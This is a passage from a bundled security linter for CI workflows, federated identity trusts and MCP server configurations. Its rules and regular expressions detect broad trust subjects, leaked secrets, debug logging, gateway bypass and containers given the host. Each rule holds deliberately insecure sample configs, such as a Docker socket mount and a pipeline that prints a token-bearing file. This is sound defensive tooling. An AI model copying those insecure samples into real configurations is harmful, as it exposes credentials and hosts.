        return star <= 5 ? {} : { unknown: true };
    const owner = { text: match[1], prefix: false };
    return match[2] === undefined ? { owner } : { owner, repository: { text: match[2], prefix: false } };
}
/** The words for each kind of issuer. */
const words = {
    github: { run: 'any workflow', unit: 'repository', units: 'any repository', owner: 'owner' },
    gitlab: { run: 'any job', unit: 'project', units: 'any project', owner: 'group' },
    terraform: { run: 'any run', unit: 'workspace', units: 'any workspace', owner: 'organization' },
    kubernetes: {
        run: 'any pod',
        unit: 'service account',
        units: 'any service account',
        owner: 'namespace'
    },
    'azure-devops': {
        run: 'any pipeline',
        unit: 'project',
        units: 'any service connection',
        owner: 'organization'
    },
    circleci: { run: 'any job', unit: 'project', units: 'any project', owner: 'organization' },
    other: { run: 'any token', unit: 'subject', units: 'any subject', owner: 'owner' }
};
function describe(scope, kind, show, narrowing) {
    const { run, units, owner: ownerWord } = words[kind];
    const { owner, repository, context } = scope;
    const where = context ? ofContext(context, show) : '';
    // A workflow that is fixed with its ref decides what runs, wherever it is called from.
    const pinned = narrowing.pinnedWorkflow;
    if (!owner) {
        if (narrowing.repository || narrowing.owner || narrowing.other)
            return undefined;
        const who = pinned
            ? `any repository that calls the fixed workflow`
            : scope.context || kind !== 'github'
                ? `${run} of ${units}${where}, whoever owns it`
                : 'any workflow of any repository on GitHub, whoever owns it';
        return { opening: 'anyone', who };
    }
    if (owner.prefix) {
        if (narrowing.repository || narrowing.owner)
            return undefined;
        return {
            opening: 'owner-prefix',
            who: `${run} of ${units} of any ${ownerWord} whose name begins with '${show(owner.text)}'`
        };
    }
    if (!repository) {
        if (narrowing.repository || pinned)
            return undefined;
        const place = kind === 'kubernetes' ? `in the namespace ${show(owner.text)}` : `of ${show(owner.text)}`;
        return { opening: 'owner', who: `${run} of ${units} ${place}${where}` };
    }
    const name = repositoryName(kind, owner, repository, show);
    if (repository.prefix) {
        if (narrowing.repository || pinned)
            return undefined;
        return {
            opening: 'repository-prefix',
            who: `${run} of ${units} of ${show(owner.text)} whose name begins with '${show(repository.text)}'${where}`
        };
    }
    if (narrowing.context || pinned)
        return undefined;
    if (!context) {
        const pullRequests = kind === 'github' || kind === 'gitlab' ? ': any branch, tag or ' : '';
        const request = kind === 'github' ? 'pull request' : kind === 'gitlab' ? 'merge request' : '';
        return { opening: 'repository', who: `${run} of ${name}${pullRequests}${request}` };
    }
    return contextOpening(context, name, run, show);
}
function contextOpening(context, name, run, show) {
    const text = show(context.name);
    if (context.kind === 'pull-request') {
        return { opening: 'pull-request', who: `${run} that a pull request to ${name} starts or changes` };
    }
    if (context.open === 'none')
        return undefined;
    if (context.kind === 'ref')
        return { opening: 'branches', who: `${run} on any branch or tag of ${name}` };
    if (context.open === 'prefix') {
        switch (context.kind) {
            case 'branch':
                return {
                    opening: 'branch-prefix',
                    who: `${run} on any branch of ${name} whose name begins with '${text}'`
                };
            case 'tag':
                return {
                    opening: 'tag-prefix',
                    who: `${run} on any tag of ${name} whose name begins with '${text}'`
                };
            case 'environment':
                return {
                    opening: 'environment-prefix',
                    who: `${run} of ${name} that names an environment that begins with '${text}', which it may make up`
                };
            default:
                return { opening: 'narrow-pattern', who: `${run} of ${name} with '${text}…'` };
        }
    }
    switch (context.kind) {
        case 'branch':
            return { opening: 'branches', who: `${run} on any branch of ${name}` };
        case 'tag':
            return {
                opening: 'tags',
                who: `${run} on any tag of ${name}, which anyone who can push may make`
            };
        case 'environment':
            return {
                opening: 'environments',
                who: `${run} of ${name} that names any environment, also one that it makes up`
            };
        default:
            return { opening: 'repository', who: `${run} of ${name}` };
    }
}
function repositoryName(kind, owner, repository, show) {
    if (owner.text === '' || owner.text === repository.text) {
        return `the ${words[kind].unit} ${show(repository.text)}`;
    }
    const separator = kind === 'kubernetes' ? ':' : '/';
    return `${show(owner.text)}${separator}${show(repository.text)}`;
}
function ofContext(context, show) {
    if (context.open === 'all' || context.name === '')
        return '';
    switch (context.kind) {
        case 'branch':
            return ` with a branch ${show(context.name)}`;
        case 'tag':
            return ` with a tag ${show(context.name)}`;
        case 'environment':
            return ` with an environment ${show(context.name)}`;
        case 'other':
            return ` with '${show(context.name)}'`;
        default:
            return '';
    }
}
/** The owner, repository and context of an exact subject of GitHub; undefined when it is another. */
function githubSubject(value) {
    const { text, show } = analysed(value);
    const match = /^repo:([^/:]+\/[^:]+):(.+)$/s.exec(text);
    const context = match ? githubContext(match[2], false) : undefined;
    if (!match || !context)
        return undefined;
    return {
        repository: show(match[1]),
        kind: context.kind,
        name: show(context.name),
        hasIds: /^[^/]+@[^/]+\/[^:]+@[^:]+$/.test(match[1])
    };
}
/** The text without its unknown stretches, each as one private character. */
function literalOf(value) {
    return analysed(value).text;
}
//# sourceMappingURL=admission.js.map
;// CONCATENATED MODULE: ./build/shared/lint/federation/report.js
/** What the trust belongs to, at the beginning of a message. */
function where(subject) {
    return `'${subject.name}'`;
}
/** What a trust opens, at the end of a message; empty when nothing is known of it. */
function rights({ administrator }) {
    return administrator === undefined
        ? ''
        : `; the role may do everything in the AWS account (${administrator})`;
}
/**
 * Where a problem with a value is shown: where the value is written, with the trust beside it when
 * that is another place; the trust itself when there is no value.
 */
function problemAt(subject, value) {
    if (!value)
        return { file: subject.file, range: subject.range };
    const { text } = value;
    const range = text.range();
    const inside = text.file === subject.file &&
        range.start >= subject.range.start &&
        range.end <= subject.range.end;
    return {
        file: text.file,
        range,
        ...(!inside && {
            related: [{ message: `used by ${subject.name}`, file: subject.file, range: subject.range }]
        })
    };
}
/** What stays the same when lines move. */
function subjectKey(subject, detail) {
    return `${subject.name} ${detail}`;
}
//# sourceMappingURL=report.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/broad-subject.js


const help = 'Name one environment with reviewers: repo:OWNER/REPO:environment:production.';
/** A trust that names its repository and is still wider, or weaker, than it looks. */
const broadSubject = {
    meta: {
        id: 'broad-subject',
        summary: 'Federated subject is wider or weaker than it needs to be',
        severity: 'warning',
        why: 'A branch that a bot writes, any branch or tag whose name begins with a word, or a branch beside an environment of the same identity: each lets in workflows that have not passed the review which the narrow credential beside it demands. An identity is as strong as its weakest credential.',
        fix: 'One identity for each level of trust: production behind an environment with reviewers, everything else with another identity and fewer rights. Compare with `eq` where there is nothing to match, and with the number of an owner or repository where the issuer gives one: names can be given up and taken by others.',
        securitySeverity: 6,
        references: [
            'https://docs.github.com/actions/how-tos/deploy/configure-and-manage-deployments/manage-environments',
            'https://cloud.google.com/iam/docs/best-practices-for-using-workload-identity-federation'
        ],
        bad: {
            file: 'main.tf',
            text: 'resource "azurerm_federated_identity_credential" "bot" {\n  name                      = "bot"\n  user_assigned_identity_id = azurerm_user_assigned_identity.deploy.id\n  issuer                    = "https://token.actions.githubusercontent.com"\n  audience                  = ["api://AzureADTokenExchange"]\n  subject                   = "repo:acme/app:ref:refs/heads/renovate/all"\n}\n'
        },
        good: {
            file: 'main.tf',
            text: 'resource "azurerm_federated_identity_credential" "deploy" {\n  name                      = "deploy"\n  user_assigned_identity_id = azurerm_user_assigned_identity.deploy.id\n  issuer                    = "https://token.actions.githubusercontent.com"\n  audience                  = ["api://AzureADTokenExchange"]\n  subject                   = "repo:acme@1234/app@56789:environment:production"\n}\n'
        }
    },
    checkAll(documents, report) {
        const identities = identitiesOf(documents);
        for (const facts of documents) {
            for (const subject of facts.federatedSubjects) {
                const add = problem => report(facts, problem);
                prefixes(subject, add);
                branches(subject, add);
                trustLevels(subject, identities, add);
                mutableNames(subject, add);
                needlessPattern(subject, add);
            }
        }
    }
};
const prefixOpenings = new Set(['branch-prefix', 'tag-prefix']);
function prefixes(subject, report) {
    for (const admission of admissionsOf(subject)) {
        if (!prefixOpenings.has(admission.opening))
            continue;
        report({
            ...problemAt(subject, admission.value),
            message: `${where(subject)} lets in ${admission.who}${rights(subject)}`,
            help,
            subject: subjectKey(subject, admission.opening)
        });
    }
}
/** Branches whose content nobody has reviewed when it is pushed. */
const unreviewed = /^(?:renovate|dependabot|snyk|feature|features|feat|fix|bugfix|users?|wip)\//i;
const botBranch = /^(?:renovate|dependabot|snyk)\//i;
function branches(subject, report) {
    for (const value of exactValues(subject)) {
        const parts = githubSubject(value);
        if (parts?.kind === 'tag') {
            report({
                ...problemAt(subject, value),
                severity: 'note',
                message: `${where(subject)} lets in any workflow on the tag ${parts.name} of ${parts.repository}: whoever may push a tag can move it, unless a rule protects it`,
                help,
                subject: subjectKey(subject, value.text.text)
            });
        }
        if (parts?.kind !== 'branch' || !unreviewed.test(parts.name))
            continue;
        const who = botBranch.test(parts.name) ? 'a bot writes it' : 'it is pushed before any review';
        report({
            ...problemAt(subject, value),
            message: `${where(subject)} lets in any workflow on the branch ${parts.name} of ${parts.repository}; ${who}`,
            help,
            subject: subjectKey(subject, value.text.text)
        });
    }
}
/** The subjects of each identity that has several. */
function identitiesOf(documents) {
    const identities = new Map();
    for (const { federatedSubjects } of documents) {
        for (const subject of federatedSubjects) {
            if (subject.identity === undefined)
                continue;
            const levels = identities.get(subject.identity) ?? [];
            for (const value of exactValues(subject)) {
                const parts = githubSubject(value);
                if (parts)
                    levels.push({ subject, value, ...parts });
            }
            identities.set(subject.identity, levels);
        }
    }
    return identities;
}
const production = /^(?:prod|prd|production|live)\b/i;
function trustLevels(subject, identities, report) {
    const levels = subject.identity === undefined ? undefined : identities.get(subject.identity);
    if (!levels || levels.length < 2)
        return;
    const environments = levels.filter(({ kind }) => kind === 'environment');
    for (const level of levels) {
        if (level.subject !== subject)
            continue;
        const other = level.kind === 'pull-request'
            ? levels.find(({ kind }) => kind !== 'pull-request')
            : level.kind === 'branch'
                ? environments.find(({ repository }) => repository === level.repository)
                : level.kind === 'environment' && !production.test(level.name)
                    ? environments.find(({ name }) => production.test(name))
                    : undefined;
        if (!other)
            continue;
        const what = { branch: `the branch ${level.name}`, 'pull-request': 'pull requests' }[level.kind];
        report({
            ...problemAt(subject, level.value),
            related: [
                {
                    message: 'the other subject of the same identity',
                    file: other.value.text.file,
                    range: other.value.text.range()
                }
            ],
            message: `${where(subject)} gives ${what ?? `the environment ${level.name}`} the same identity as '${other.value.text.text}': two levels of trust, and the weaker one decides`,
            help: 'Use one identity for each level of trust.',
            subject: subjectKey(subject, level.value.text.text)
        });
    }
}
/** Google Cloud: names of owners and repositories where the issuer also gives their numbers. */
function mutableNames(subject, report) {
    if (subject.provider !== 'gcp')
        return;
    const claims = new Set(subject.tests.map(({ claim }) => claim));
    if (claims.has('repository_owner_id') || claims.has('repository_id'))
        return;
    const test = subject.tests.find(({ claim }) => claim === 'repository' || claim === 'repository_owner');
    const value = test?.values[0];
    if (!test || !value || value.holes.length > 0)
        return;
    report({
        ...problemAt(subject, value),
        severity: 'note',
        message: `${where(subject)} goes by the name in ${test.claim}, which someone else may take once it is given up`,
        help: `Compare ${test.claim}_id as well.`,
        subject: subjectKey(subject, test.claim)
    });
}
/** Entra: `matches` with a text that has nothing to match. */
function needlessPattern(subject, report) {
    if (subject.provider !== 'entra')
        return;
    for (const test of subject.tests) {
        const [value] = test.values;
        if (test.comparison !== 'pattern' || !value || !test.operator)
            continue;
        if (value.holes.length > 0 || /[*?]/.test(value.text.text))
            continue;
        const range = test.operator.range();
        report({
            file: test.operator.file,
            range,
            severity: 'note',
            message: `${where(subject)} matches ${test.claim} with a text without a wildcard`,
            help: 'Use `eq`: a later change cannot then open it by accident.',
            subject: subjectKey(subject, `${test.claim} matches`),
            fix: {
                description: 'compare with eq',
                edits: [{ start: range.start, end: range.end, newText: 'eq' }]
            }
        });
    }
}
function exactValues(subject) {
    return subject.tests
        .filter(({ claim }) => claim === 'sub')
        .flatMap(({ values, comparison }) => values.filter(({ text }) => comparison === 'exact' || !/[*?]/.test(text.text)));
}
//# sourceMappingURL=broad-subject.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/config-printed.js

/** A configuration with secrets in it that a job prints or publishes. */
const configPrinted = {
    meta: {
        id: 'config-printed',
        summary: 'A CI job prints or publishes an MCP configuration with secrets',
        severity: 'warning',
        why: 'The CI system masks a secret only in the form in which it knows it. Inside of JSON it may be escaped, cut or encoded, and then the log shows it to everyone who may read the run. An artifact is not masked at all.',
        fix: "Do not print the file. To check it, print only the names: `jq '.mcpServers | keys'`. Better, write references into it and no secrets.",
        securitySeverity: 6.5,
        references: [
            'https://docs.github.com/en/actions/reference/security/secure-use#using-secrets',
            'https://learn.microsoft.com/azure/devops/pipelines/process/set-secret-variables'
        ],
        bad: {
            file: 'azure-pipelines.yml',
            text: `trigger: none
pool: {vmImage: ubuntu-latest}
steps:
  - bash: |
      cat > mcp.json << EOF
      {"mcpServers": {"crm": {"type": "http", "url": "https://mcp.example.com/mcp",
        "headers": {"Authorization": "Bearer $CRM_TOKEN"}}}}
      EOF
      cat mcp.json
    env:
      CRM_TOKEN: $(crmToken)
`
        },
        good: {
            file: 'azure-pipelines.yml',
            text: `trigger: none
pool: {vmImage: ubuntu-latest}
steps:
  - bash: |
      cat > mcp.json << 'EOF'
      {"mcpServers": {"crm": {"type": "http", "url": "https://mcp.example.com/mcp",
        "headers": {"Authorization": "Bearer \${CRM_TOKEN}"}}}}
      EOF
      cat mcp.json
    env:
      CRM_TOKEN: $(crmToken)
`
        }
    },
    check(facts, report) {
        for (const { path, range, by } of facts.configPrints) {
            const config = facts.mcpConfigs.find(({ written }) => written && samePath(written.path, path));
            if (!config || !holdsSecret(config, facts))
                continue;
            report({
                range,
                message: `${by} shows the MCP configuration that the job wrote, with its secrets`,
                help: "Do not print the file; to check it, print its names: jq '.mcpServers | keys'.",
                subject: `${by} ${path}`
            });
        }
    }
};
function samePath(a, b) {
    const plain = (path) => path
        .trim()
        .replace(/^\.[\\/]/, '')
        .replaceAll('\\', '/');
    return plain(a) === plain(b);
}
function holdsSecret(config, facts) {
    if ((config.written?.expanded.length ?? 0) > 0)
        return true;
    return facts.credentialSites.some(site => site.server && config.servers.includes(site.server) && (0,credentials/* judgeSite */.pL)(site).length > 0);
}
//# sourceMappingURL=config-printed.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/config-written-in-script.js
/** A configuration that a CI step writes with secrets in it. */
const configWrittenInScript = {
    meta: {
        id: 'config-written-in-script',
        summary: 'A CI step writes secrets into the configuration of an MCP client',
        severity: 'warning',
        why: 'The secret is put into a file as text: it stays on a self-hosted runner, goes into an artifact or a cache with the folder, and is read by every later step. In a JSON string it has another form than the one that the CI system masks, so printing the file shows it. On a command line every process of the machine sees it.',
        fix: "Quote the here-document (`<<'EOF'`) and write a reference of the client (`${NAME}`); hand the secret to the step that starts the client in `env:`. The client puts it in itself, and nothing is written.",
        securitySeverity: 6,
        references: [
            'https://docs.github.com/en/actions/reference/security/secure-use#using-secrets',
            'https://code.claude.com/docs/en/mcp'
        ],
        bad: {
            file: '.github/workflows/agent.yml',
            text: `on: workflow_dispatch
permissions: {}
jobs:
  agent:
    runs-on: ubuntu-latest
    steps:
      - env:
          CRM_TOKEN: \${{ secrets.CRM_TOKEN }}
        run: |
          cat > "$RUNNER_TEMP/mcp.json" << EOF
          {"mcpServers": {"crm": {"type": "http", "url": "https://mcp.example.com/mcp",
            "headers": {"Authorization": "Bearer $CRM_TOKEN"}}}}
          EOF
          claude -p "Summarise" --mcp-config "$RUNNER_TEMP/mcp.json"
`
        },
        good: {
            file: '.github/workflows/agent.yml',
            text: `on: workflow_dispatch
permissions: {}
jobs:
  agent:
    runs-on: ubuntu-latest
    steps:
      - env:
          CRM_TOKEN: \${{ secrets.CRM_TOKEN }}
        run: |
          cat > "$RUNNER_TEMP/mcp.json" << 'EOF'
          {"mcpServers": {"crm": {"type": "http", "url": "https://mcp.example.com/mcp",
            "headers": {"Authorization": "Bearer \${CRM_TOKEN}"}}}}
          EOF
          claude -p "Summarise" --mcp-config "$RUNNER_TEMP/mcp.json"
`
        }
    },
    check(facts, report) {
        for (const { written } of facts.mcpConfigs) {
            const [first, ...rest] = written?.expanded ?? [];
            if (!written || !first)
                continue;
            const by = first.by === 'ci' ? 'the CI system' : 'the shell';
            report({
                range: first.text.range(),
                message: written.path === ''
                    ? `${by} puts a secret into the configuration of an MCP client on a command line`
                    : `${by} puts a secret into the MCP configuration that the step writes`,
                help: 'Write a reference of the client, such as ${NAME}, and set the variable in `env` of the step that starts it.',
                subject: `${written.path} ${first.text.text}`,
                ...(rest.length > 0 && {
                    related: rest.slice(0, 10).map(({ text }) => ({ message: 'and here', range: text.range() }))
                })
            });
        }
    }
};
//# sourceMappingURL=config-written-in-script.js.map
// EXTERNAL MODULE: ./build/shared/lint/documents/mcp/clients.js
var clients = __webpack_require__(4578);
;// CONCATENATED MODULE: ./build/shared/lint/mcp-references.js


/** Longer values are no credentials. */
const longestValue = 20_000;
const syntaxes = [
    ['${{ secrets.X }}', /\$\{\{\s*([\w.-]{1,200})\s*\}\}/g],
    ['${env:X}', /\$\{env:([A-Za-z_]\w{0,100})\}/g],
    ['${input:x}', /\$\{input:([\w.-]{1,100})\}/g],
    ['${X:-d}', /\$\{([A-Z_][A-Z0-9_]{1,100}):-[^{}]{0,200}\}/g],
    ['${X}', /\$\{([A-Z_][A-Z0-9_]{1,100})\}/g],
    ['$input:x', /\$input:([\w.-]{1,100})/g],
    ['{env:X}', /(?<!\$)\{env:([A-Za-z_]\w{0,100})\}/g],
    ['$(command)', /\$\(([^()]{1,200})\)/g],
    ['$X', /(?<![\w$\\}])\$([A-Z_][A-Z0-9_]{2,100})(?![\w(])/g],
    ['%X%', /(?<![\w%])%([A-Z_][A-Z0-9_]{2,100})%(?!\w)/g]
];
/** Every reference in a value, in any client's syntax. */
function referencesIn(value) {
    if (value.length > longestValue || !/[$%{]/.test(value))
        return [];
    const found = syntaxes.flatMap(([syntax, pattern]) => [...value.matchAll(pattern)].map(match => ({
        syntax,
        text: match[0],
        name: match[1],
        start: match.index,
        end: match.index + match[0].length
    })));
    // Names stand in messages and fixes: one that holds a credential is left to other rules.
    return found.filter(({ name }) => (0,credentials/* shownName */.HD)(name) === name);
}
/** Bridges that expand references in their own arguments. */
const expandingBridges = new Set(['mcp-remote', 'supergateway', 'mcp-proxy']);
/** True when something between the client and the server expands the arguments: a shell, a bridge. */
function argumentsAreExpanded(server) {
    const { launch } = server;
    if (!launch)
        return false;
    return (launch.wrappers.some(name => /^(?:(?:ba|z|da|k|fi|a)?sh|cmd|powershell|pwsh)$/.test(name)) ||
        expandingBridges.has(launch.target ?? ''));
}
const ownValues = new WeakMap();
/** True for a value that the client hands over outside the command line: environment, header, setting. */
function isOutsideArguments(site) {
    const { server, value } = site;
    if (!server)
        return false;
    let own = ownValues.get(server);
    if (!own) {
        own = new Set([...server.env, ...server.headers, ...server.settings].map(entry => entry.value));
        ownValues.set(server, own);
    }
    return own.has(value) || value === server.url;
}
/** True when the client replaces the reference before it starts the server. */
function isExpanded(reference, client) {
    return client.dialect.syntaxes.some(syntax => syntax === reference.syntax);
}
/** The client of a site's server. */
function clientOfSite(site) {
    return (0,clients/* clientById */.U4)(site.server?.client ?? 'unknown');
}
//# sourceMappingURL=mcp-references.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/credential-in-arguments.js


/** A credential among the arguments of a server, where every process of the machine can read it. */
const credentialInArguments = {
    meta: {
        id: 'credential-in-arguments',
        summary: 'A credential is handed to an MCP server as an argument',
        severity: 'warning',
        why: 'Arguments of a process are no secret: every user of the machine sees them in the list of processes, and crash reports, audit logs and monitoring keep them. That holds for a reference too, once the client has put its value in.',
        fix: 'Hand the credential over in the environment: most servers that take `--api-key` also read a variable such as `API_KEY`. For a container name the variable alone (`-e API_KEY`) and set it in `env`.',
        securitySeverity: 5,
        references: ['https://cwe.mitre.org/data/definitions/214.html'],
        bad: {
            file: '.mcp.json',
            text: '{\n  "mcpServers": {\n    "search": {\n      "command": "npx",\n      "args": ["-y", "search-mcp@1.4.0", "--api-key", "${SEARCH_API_KEY}"]\n    }\n  }\n}\n'
        },
        good: {
            file: '.mcp.json',
            text: '{\n  "mcpServers": {\n    "search": {\n      "command": "npx",\n      "args": ["-y", "search-mcp@1.4.0"],\n      "env": {"API_KEY": "${SEARCH_API_KEY}"}\n    }\n  }\n}\n'
        }
    },
    check(facts, report) {
        const seen = new Set();
        for (const site of facts.credentialSites) {
            if (!isArgument(site) || !holdsCredential(site))
                continue;
            const range = site.value.range();
            if (seen.has(range.start))
                continue;
            seen.add(range.start);
            const name = site.name === undefined ? undefined : (0,credentials/* shownName */.HD)(site.name);
            const server = (0,credentials/* shownName */.HD)(site.server.name);
            report({
                range,
                message: `MCP server '${server}' gets a credential as an argument${name === undefined ? '' : ` (${name})`}: all processes of the machine can read it`,
                help: 'Hand it over in the environment of the server instead.',
                subject: `${server} ${name ?? ''}`
            });
        }
    }
};
/** Sites of the command line: arguments, headers among them, variables that `docker run` sets. */
function isArgument(site) {
    const { server } = site;
    if (!server?.launch || isOutsideArguments(site))
        return false;
    // `env K=v npx …` and `K=v npx …` set the environment; `docker run -e K=v` stands in the list.
    if (site.place === 'environment')
        return server.launch.ecosystem === 'oci' && !isWrapperEnv(site);
    return true;
}
function isWrapperEnv({ server }) {
    return server.launch.wrappers.includes('env');
}
function holdsCredential(site) {
    const { name, value, server } = site;
    if ((0,credentials/* judgeSite */.pL)(site).length > 0)
        return true;
    if (name === undefined || (0,credentials/* secretName */.Gf)(name) === undefined)
        return false;
    if (!(0,credentials/* hasReference */.UN)(value.text))
        return false;
    // The bridge or the shell takes the value from its own environment.
    if (argumentsAreExpanded(server))
        return false;
    if (server.origin === 'command')
        return true;
    const client = clientOfSite(site);
    return referencesIn(value.text).some(reference => isExpanded(reference, client));
}
//# sourceMappingURL=credential-in-arguments.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/debug-logging-enabled.js
const switches = new Set([
    'actions_step_debug',
    'actions_runner_debug',
    'runner_debug',
    'system.debug'
]);
/** Debug logging that is always on. */
const debugLoggingEnabled = {
    meta: {
        id: 'debug-logging-enabled',
        summary: 'Debug logging is switched on in the file',
        severity: 'warning',
        why: 'Debug logs hold the inputs of steps, environment variables, request headers and responses. Masking covers the secrets that the runner knows, not those derived from them: a decoded key, a token that a tool fetched, a header that was put together. Whoever can read the logs can read these.',
        fix: 'Remove the variable and switch debug logging on for the one run that needs it: "Re-run jobs" with debug logging on GitHub, "Enable system diagnostics" in Azure Pipelines.',
        securitySeverity: 4,
        references: [
            'https://docs.github.com/en/actions/how-tos/monitor-workflows/enable-debug-logging',
            'https://learn.microsoft.com/en-us/azure/devops/pipelines/troubleshooting/review-logs'
        ],
        bad: {
            file: 'azure-pipelines.yml',
            text: `trigger: [main]
variables:
  system.debug: true
steps:
  - script: npm test
`
        },
        good: {
            file: 'azure-pipelines.yml',
            text: `trigger: [main]
steps:
  - script: npm test
`
        }
    },
    check({ pipeline }, report) {
        if (!pipeline)
            return;
        const seen = new Set();
        const variables = [
            ...pipeline.variables,
            ...pipeline.jobs.flatMap(job => [
                ...job.variables,
                ...job.steps.flatMap(step => step.variables)
            ])
        ];
        for (const variable of variables) {
            const name = variable.name.text;
            if (seen.has(variable) || !switches.has(name.toLowerCase()))
                continue;
            seen.add(variable);
            if (!/^(?:true|1)$/i.test(variable.value.text.trim()))
                continue;
            report({
                range: variable.range,
                message: `${name} switches debug logging on for every run`,
                help: 'Remove it, and switch debug logging on for single runs.',
                subject: `${variable.scope} ${name}`
            });
        }
    }
};
//# sourceMappingURL=debug-logging-enabled.js.map
// EXTERNAL MODULE: ./build/shared/lint/gateways.js
var gateways = __webpack_require__(28689);
// EXTERNAL MODULE: ./build/shared/lint/rules/insecure-transport.js
var insecure_transport = __webpack_require__(40372);
;// CONCATENATED MODULE: ./build/shared/lint/rules/gateway-bypass.js




/** A server beside the gateways through which all are meant to be reached. */
const gatewayBypass = {
    meta: {
        id: 'gateway-bypass',
        summary: 'MCP server is not reached through an allowed gateway',
        severity: 'warning',
        why: 'The gateway checks who calls, limits how often and records every call. A server that is reached beside it has none of this: its calls are in no audit log, and a personal key takes the place of an identity. The rule looks only when the configuration of this project names the gateways (`gateways`).',
        fix: "Put the server behind the gateway and give the gateway's address here. A server that may stand beside it can be named in `servers` of the configuration.",
        securitySeverity: 6,
        references: ['https://learn.microsoft.com/azure/api-management/mcp-server-overview'],
        bad: {
            file: '.mcp.json',
            text: '{\n  "mcpServers": {\n    "crm": {"type": "http", "url": "https://crm.example.com/mcp"}\n  }\n}\n'
        },
        good: {
            file: '.mcp.json',
            text: '{\n  "mcpServers": {\n    "crm": {"type": "http", "url": "https://mcp.acme.com/crm"}\n  }\n}\n'
        },
        config: 'gateways: ["https://mcp.acme.com"]\n'
    },
    check(facts, report, config) {
        if (config.gateways.length === 0)
            return;
        for (const server of facts.mcpServers) {
            const [address] = (0,insecure_transport/* addressesOf */.s)(server);
            if (isNamed(server, config))
                continue;
            if (address) {
                if ((0,gateways/* isThroughGateway */.g)(address.text, config.gateways) || isLocal(address.text))
                    continue;
                report({
                    range: address.range(),
                    message: `${(0,server_label/* serverLabel */.K)(server)} is reached beside the gateway, at ${(0,server_label/* targetLabel */.O)({ ...server, url: address })}`,
                    help: `Reach it through ${config.gateways[0]}, or name it in \`servers\` of the configuration.`,
                    subject: server.name
                });
                continue;
            }
            const served = servedResource(server, config.gateways);
            if (served === undefined)
                continue;
            report({
                range: server.launch?.targetText?.range() ?? server.nameRange,
                message: `${(0,server_label/* serverLabel */.K)(server)} runs locally for '${served}', which the gateway serves`,
                help: 'Use the server behind the gateway, or name this one in `servers` of the configuration.',
                subject: server.name
            });
        }
    }
};
function isNamed(server, config) {
    const names = [server.name, server.launch?.target, server.url?.text].filter(name => name !== undefined);
    return (0,gateways/* matchesAny */._)(names, config.servers);
}
/** Servers of this machine, and addresses that only run time knows. */
function isLocal(url) {
    return (/^[a-z]+:\/\/(?:localhost|127\.|\[::1\]|0\.0\.0\.0|host\.docker\.internal|[^/?#.:]+(?=[:/?#]|$))/i.test(url) ||
        /^(?:[^/]*\/\/)?[$%{]/.test(url) ||
        /^(?:unix|pipe):/i.test(url));
}
const emptyWords = new Set([
    'mcp',
    'server',
    'servers',
    'modelcontextprotocol',
    'api',
    'remote',
    'local',
    'stdio',
    'http',
    'sse',
    'latest',
    'v',
    'dev',
    'prod'
]);
/** A resource that stands in a gateway's path and in the name of a local server's package. */
function servedResource({ launch }, gateways) {
    if (!launch?.target || launch.ecosystem === 'local')
        return undefined;
    const own = new Set((0,credentials/* wordsOf */.Z9)(launch.target).filter(word => !emptyWords.has(word)));
    for (const gateway of gateways) {
        const path = /^[a-z]+:\/\/[^/]+(\/[^?#]*)/i.exec(gateway)?.[1] ?? '';
        const served = (0,credentials/* wordsOf */.Z9)(path).find(word => own.has(word) && word.length > 2);
        if (served)
            return served;
    }
    return undefined;
}
//# sourceMappingURL=gateway-bypass.js.map
// EXTERNAL MODULE: ./build/shared/lint/paths.js
var lint_paths = __webpack_require__(47396);
;// CONCATENATED MODULE: ./build/shared/lint/rules/host-mount.js


const socket = /(?:^|\/)(?:var\/)?run\/(?:user\/[^/]+\/)?(?:docker|podman\/podman|containerd\/containerd|crio\/crio)\.sock$|[\\/]{2}[.][\\/]pipe[\\/](?:docker_engine|podman)|^\/run\/k3s\/containerd/i;
/** A container that is none: it has the host's root, a home, its container socket or all rights. */
const hostMount = {
    meta: {
        id: 'host-mount',
        summary: 'The container of an MCP server has the host',
        severity: 'error',
        why: "A container keeps a server away from the machine only as far as nothing is handed in. The socket of the container engine, `--privileged`, the host's root or a whole home folder undo all of it: who controls the server controls the host. The entry still looks contained.",
        fix: 'Mount the one folder that the server works on, read-only where reading is enough, and leave out the socket and `--privileged`. A server that manages containers needs a host of its own.',
        securitySeverity: 8.8,
        references: [
            'https://docs.docker.com/engine/security/#docker-daemon-attack-surface',
            'https://cwe.mitre.org/data/definitions/250.html'
        ],
        bad: {
            file: '.mcp.json',
            text: `{\n  "mcpServers": {\n    "files": {\n      "command": "docker",\n      "args": ["run", "-i", "--rm", "-v", "/var/run/docker.sock:/var/run/docker.sock", "mcp/files@sha256:${'4b1d'.repeat(16)}"]\n    }\n  }\n}\n`
        },
        good: {
            file: '.mcp.json',
            text: `{\n  "mcpServers": {\n    "files": {\n      "command": "docker",\n      "args": ["run", "-i", "--rm", "-v", "\${PWD}/docs:/docs:ro", "mcp/files@sha256:${'4b1d'.repeat(16)}"]\n    }\n  }\n}\n`
        }
    },
    check(facts, report, config) {
        for (const server of facts.mcpServers) {
            for (const { range, what } of hostAccess(server, config.filesystemRoots)) {
                report({
                    range,
                    message: `the container of ${(0,server_label/* serverLabel */.K)(server)} has ${what}`,
                    help: 'Mount only the folder that the server works on.',
                    subject: `${server.name} ${what}`
                });
            }
        }
    }
};
function* hostAccess({ launch }, allowed) {
    if (launch?.ecosystem !== 'oci')
        return;
    for (const { source } of launch.mounts) {
        const path = source.text.trim();
        if ((0,lint_paths/* isWithin */.UO)(path, allowed))
            continue;
        const range = source.range();
        if (socket.test(path))
            yield { range, what: 'the socket of the container engine' };
        else if ((0,lint_paths/* breadthOf */.CO)(path) === 'root')
            yield { range, what: `'${path}' of the host` };
        else if (isHome(path))
            yield { range, what: `the home folder '${path}' of the host` };
    }
    const flags = launch.runnerFlags;
    for (const [index, flag] of flags.entries()) {
        const next = flags[index + 1];
        const value = flag.text.includes('=')
            ? flag.text.slice(flag.text.indexOf('=') + 1)
            : (next?.text ?? '');
        const name = flag.text.split('=')[0];
        const range = flag.range();
        if (name === '--privileged' && value !== 'false')
            yield { range, what: 'all rights on the host (--privileged)' };
        else if (/^--(?:pid|userns|ipc|uts)$/.test(name) && value === 'host')
            yield { range, what: `the host's namespace (${name}=host)` };
        else if (name === '--cap-add' && /^(?:ALL|(?:CAP_)?SYS_(?:ADMIN|MODULE|PTRACE))$/i.test(value))
